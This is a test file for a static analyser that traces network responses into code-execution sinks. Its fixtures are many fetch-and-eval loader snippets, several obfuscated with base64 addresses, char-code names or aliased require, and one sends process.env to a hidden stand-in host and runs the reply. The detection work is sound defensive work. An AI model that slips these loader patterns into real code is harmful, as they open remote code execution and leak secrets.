import { describe, expect, it } from 'vitest';
import { type Files, flowsOf } from '../../../test/support/analyse.ts';
import type { Flow } from './flow.ts';

const CODE = new Set(['eval', 'function-constructor', 'vm', 'module-compile', 'timer-string']);
/** base64 of https://fixture.invalid/a */
const HIDDEN = 'aHR0cHM6Ly9maXh0dXJlLmludmFsaWQvYQ==';

async function codeFlows(files: Files, file: string): Promise<readonly Flow[]> {
  return (await flowsOf(files, file)).filter((flow) => CODE.has(flow.sink));
}
const kinds = (flows: readonly Flow[]): readonly string[] =>
  [...new Set(flows.flatMap((flow) => flow.sources.map((source) => source.kind)))].sort();
const addresses = (flows: readonly Flow[]): readonly string[] => [
  ...new Set(flows.flatMap((flow) => flow.sources.flatMap((source) => source.addresses.map((one) => one.value)))),
];

const U = 'https://fixture.invalid/a';

/** One loader, many spellings: each must end as the body of a reply from the address. */
const REPLIES: Readonly<Record<string, string>> = {
  'axios, await': `const axios = require('axios'); (async () => { const r = await axios.get('${U}'); eval(r.data); })();`,
  'axios, default import': `import axios from 'axios'; async function go() { const { data } = await axios.get('${U}'); new Function('require', data.model)(require); } go();`,
  'axios, then': `const axios = require('axios'); axios.get('${U}').then(res => res.data.cookie).then(c => { eval(c) });`,
  'axios call with options': `const axios = require('axios'); axios({ method: 'get', url: '${U}' }).then(({ data }) => { (new (Function.constructor)('require', data))(require) });`,
  'axios instance': `const axios = require('axios'); const api = axios.create({ baseURL: 'https://fixture.invalid' }); api.get('/a').then(function (r) { eval(r.data) });`,
  'fetch json': `async function f() { const r = await fetch('${U}'); const j = await r.json(); return Function(j.code)(); } f();`,
  'fetch text chain': `fetch('${U}').then(r => r.text()).then(t => eval(t)).catch(() => {});`,
  'node-fetch through dynamic import': `const fetch = (...args) => import('node-fetch').then(({ default: f }) => f(...args)); fetch('${U}').then(r => r.text()).then(c => eval(c));`,
  got: `import got from 'got'; const b = await got('${U}').text(); new Function(b)();`,
  'request callback': `const request = require('request'); request('${U}', (err, res, body) => { eval(body) });`,
  'https.get accumulation': `const https = require('https'); https.get('${U}', (res) => { let d = ''; res.on('data', c => { d += c; }); res.on('end', () => { eval(d) }); });`,
  'http.request with options': `const https = require('https'); const q = https.request({ hostname: 'fixture.invalid', path: '/a' }, res => { const parts = []; res.on('data', c => parts.push(c)); res.on('end', () => new Function(Buffer.concat(parts).toString())()); }); q.end();`,
  'promise wrapper': `const https = require('https'); function load(u) { return new Promise((ok, no) => { https.get(u, r => { let s = ''; r.on('data', x => s += x); r.on('end', () => ok(s)); }).on('error', no); }); } load('${U}').then(c => eval(c));`,
  'module compile': `const axios = require('axios'); const Module = require('module'); axios.get('${U}').then(r => { const m = new Module('x'); m._compile(r.data, 'x.js'); });`,
  vm: `const vm = require('vm'); const axios = require('axios'); axios.post('${U}', { a: 1 }).then(r => vm.runInThisContext(r.data));`,
  'base64 address': `const axios = require('axios'); const src = atob('${HIDDEN}'); axios.get(src).then(r => eval(r.data));`,
  'decoded body': `const axios = require('axios'); axios.get('${U}').then(r => eval(Buffer.from(r.data, 'base64').toString('utf8')));`,
  'helper in class': `const axios = require('axios'); class Api { async pull(u) { const r = await axios.get(u); return r.data; } } const api = new Api(); api.pull('${U}').then(x => new Function(x)());`,
  'try and inverted status': `const axios = require('axios'); async function check() { try { const res = await axios.get('${U}'); if (res.data.status === 'error') { eval(res.data.message); } } catch (e) {} } setInterval(check, 5000);`,
  superagent: `const superagent = require('superagent'); superagent.get('${U}').set('x-secret-header', 'secret').end((e, res) => { eval(res.text) });`,
  undici: `import { request } from 'undici'; const { body } = await request('${U}'); eval(await body.text());`,
  'eval alias': `const axios = require('axios'); const run = eval; axios.get('${U}').then(r => run(r.data));`,
  'indirect eval': `const axios = require('axios'); axios.get('${U}').then(r => (0, eval)(r.data));`,
  'global require alias': `global['r'] = require; const a = global['r']('axios'); a.get('${U}').then(r => eval(r.data));`,
  'setTimeout string': `fetch('${U}').then(r => r.text()).then(t => setTimeout('go(' + t + ')', 0));`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', '${U}'); x.onload = () => { eval(x.responseText) }; x.send();`,
};

describe('one file: the answer of a request runs', () => {
  it.each(Object.entries(REPLIES))('%s', async (_name, source) => {
    const flows = await codeFlows({ 'a.js': source }, 'a.js');
    expect(kinds(flows)).toContain('network-body');
    if (!/XMLHttpRequest/.test(source)) expect(addresses(flows)).toContain(U);
  });
});

describe('over files', () => {
  it('follows .env → config → controller', async () => {
    const files = {
      '.env': `PORT=3000\nAUTH_API="${HIDDEN}"\n`,
      'config/index.js': `require('dotenv').config();\nmodule.exports = { port: process.env.PORT, authApi: process.env.AUTH_API };`,
      'controllers/auth.js': `const axios = require('axios');\nconst { authApi } = require('../config');\nconst setApiKey = (s) => atob(s);\nconst verify = (api) => axios.post(api, { ...process.env }, { headers: { 'x-app-request': 'ip-check' } });\nexports.start = async () => { const res = await verify(setApiKey(authApi)); const exec = new Function('require', res.data); exec(require); };`,
      'server.js': `require('./controllers/auth').start();`,
    };
    const flows = await codeFlows(files, 'controllers/auth.js');
    const source = flows[0]?.sources.find((one) => one.kind === 'network-body');
    expect(source?.addresses[0]).toMatchObject({ value: U, how: ['env', 'base64'], file: '.env' });
    expect(source?.headers).toEqual([{ name: 'x-app-request', value: 'ip-check' }]);
  });

  it('follows constants, re-exports, TypeScript, and what an imported function returns', async () => {
    const files = {
      'src/constants.ts': `export const HOST: string = 'fixture.invalid';\nexport enum Paths { A = '/a' }\nexport default { protocol: 'https://' };`,
      'src/api/client.ts': `import axios, { AxiosResponse } from 'axios';\nimport cfg, { HOST } from '../constants';\nconst client = axios.create({ baseURL: cfg.protocol + HOST });\nexport async function pull<T>(path: string): Promise<T> { const r: AxiosResponse<T> = await client.get<T>(path); return r.data; }`,
      'src/api/index.ts': `export * from './client';`,
      'src/boot.ts': `import { pull } from './api';\nimport { Paths } from './constants';\nexport const boot = async () => { const code = await pull<string>('/a'); (0, eval)(code); };\nvoid boot();`,
    };
    const flows = await codeFlows(files, 'src/boot.ts');
    expect(kinds(flows)).toContain('network-body');
    expect(addresses(flows)).toContain(U);
  });

  it('follows arguments of importers into parameters', async () => {
    const files = {
      'lib/run.js': `module.exports = function run(code) { return new Function('require', code)(require); };`,
      'index.js': `const axios = require('axios'); const run = require('./lib/run'); axios.get('${U}').then(({ data }) => run(data.cookie));`,
    };
    const flows = await codeFlows(files, 'lib/run.js');
    expect(kinds(flows)).toContain('network-body');
    expect(flows[0]?.transforms).toContain('json-field:cookie');
  });

  it('follows a JSON import', async () => {
    const files = {
      'config.json': `{ "api": { "key": "${HIDDEN}" } }`,
      'a.mjs': `import axios from 'axios'; import cfg from './config.json' with { type: 'json' }; const u = Buffer.from(cfg.api.key, 'base64').toString(); axios.get(u).then(r => eval(r.data));`,
    };
    const flows = await codeFlows(files, 'a.mjs');
    expect(addresses(flows)).toContain(U);
  });

  it('tells a failed request from an answered one', async () => {
    const source = `const axios = require('axios'); axios.get('${U}').then(r => r.data).catch(err => { eval(err.response.data) });`;
    const [flow] = await codeFlows({ 'a.js': source }, 'a.js');
    expect(flow?.viaFailure).toBe(true);
    expect(flow?.sources.map((one) => one.kind)).toContain('network-error');
    const caught = `const axios = require('axios'); async function f() { try { return await axios.get('${U}') } catch (e) { new Function('require', e.response.data.trace)(require) } } f();`;
    expect(kinds(await codeFlows({ 'a.js': caught }, 'a.js'))).toContain('network-error');
  });
});

/** Honest code: never a reply. */
const HONEST: Readonly<Record<string, string>> = {
  'webpack runtime': `var g = (function () { return this })() || new Function('return this')();`,
  'template engine': `exports.compile = (s) => { const body = 'return ' + JSON.stringify(s).replace(/x/g, 'y'); return new Function('data', body); };`,
  'test loader': `const fs = require('fs'), vm = require('vm'); module.exports = (f) => vm.runInThisContext(fs.readFileSync(f, 'utf8'), f);`,
  arguments: `const { exec } = require('child_process'); eval(process.argv[2]); exec('git ' + process.argv[3]);`,
  'request beside eval': `const axios = require('axios'); axios.get('${U}').then(r => console.log(r.data)); eval('1 + 1');`,
  'status code only': `fetch('${U}').then(r => { const f = new Function('return ' + r.status); f(); });`,
  'global this': `const root = Function('return this')(); eval('require')('fs');`,
  interceptor: `const axios = require('axios'); axios.interceptors.response.use(r => r, e => Promise.reject(e)); const t = new Function('a', 'return a'); axios.get('${U}').then(t);`,
};

describe('honest code', () => {
  it.each(Object.entries(HONEST))('%s', async (_name, source) => {
    const found = kinds(await codeFlows({ 'a.js': source }, 'a.js'));
    expect(found.filter((kind) => /^(?:network|socket|chain|dns)/.test(kind))).toEqual([]);
  });
});

describe('what calls what, in further spellings', () => {
  const more: Readonly<Record<string, string>> = {
    'then(eval)': `fetch('${U}').then((r) => r.text()).then(eval);`,
    'then(Function)': `fetch('${U}').then((r) => r.text()).then(Function).then((f) => f());`,
    'then(vm.runInThisContext)': `fetch('${U}').then((r) => r.text()).then(require('vm').runInThisContext);`,
    'a timer gets the text': `(async () => { const t = await (await fetch('${U}')).text(); setTimeout(t, 0); })();`,
    'node -e': `require('child_process').exec('node -e "fetch(\\'${U}\\').then(r=>r.text()).then(t=>eval(t))"');`,
    'code in decoded code': `eval(atob('${Buffer.from(`fetch('${U}').then((r) => r.text()).then((t) => eval(t))`).toString('base64')}'));`,
    'names from char codes': `const s = (...n) => String.fromCharCode(...n); globalThis[s(102,101,116,99,104)]('${U}').then((r) => r.text()).then((t) => globalThis[s(101,118,97,108)](t));`,
    'modules from a list': `const d = (a) => a.map((c, i) => String.fromCharCode(c ^ [7, 9][i % 2])).join(''); const [http] = [[102, 113, 110, 102, 116]].map((m) => require(d(m))); http.get('${U}').then((r) => eval(r.data));`,
    'global alias handed in': `global['r'] = require; (function (g) { g['r']('https').get('${U}', (x) => { let b = ''; x.on('data', (d) => (b += d)); x.on('end', () => g['eval'](b)); }); })(global);`,
    interceptor: `const axios = require('axios'); const c = axios.create({ baseURL: '${U}' }); c.interceptors.response.use((r) => { eval(r.data.code); return r; });`,
  };
  it.each(Object.entries(more))('%s', async (_name, source) => {
    const flows = await codeFlows({ 'a.js': source }, 'a.js');
    expect(kinds(flows)).toContain('network-body');
    expect(addresses(flows)).toContain(U);
  });

  it('injected services, and rxjs', async () => {
    const source = `import { HttpService } from '@nestjs/axios'; export class S { constructor(private readonly http: HttpService) {} run() { this.http.get('${U}').pipe().subscribe({ next: (r) => this.go(r.data) }); } go(t: string) { eval(t); } }`;
    expect(addresses(await codeFlows({ 'a.ts': source }, 'a.ts'))).toContain(U);
  });

  it('callbacks and compositions over files', async () => {
    const files = {
      'lib.js': `exports.load = (u, cb) => { require('https').get(u, (r) => { let b = ''; r.on('data', (c) => { b += c; }); r.on('end', () => cb(null, b)); }); }; exports.pipe = (...fns) => (x) => fns.reduce((p, f) => p.then(f), Promise.resolve(x)); exports.get = (u) => fetch(u); exports.text = (r) => r.text(); exports.run = (s) => Function(s)();`,
      'a.js': `const { load, pipe, get, text, run } = require('./lib'); load('${U}', (e, body) => eval(body)); exports.go = pipe(get, text, run); exports.go('${U}');`,
    };
    expect(addresses(await codeFlows(files, 'a.js'))).toContain(U);
    expect(addresses(await codeFlows(files, 'lib.js'))).toContain(U);
  });

  it('a timer that is handed functions is no sink', async () => {
    const source = `const axios = require('axios'); const api = axios.create({ baseURL: '${U}' }); function later(cb) { setTimeout(cb, 1); } later(() => {}); setTimeout(api.get, 5); setTimeout(make(axios.get('${U}')), 5); https.get('${U}', (res) => setTimeout(res.destroy, 5));`;
    expect(await codeFlows({ 'a.js': source }, 'a.js')).toEqual([]);
  });
});
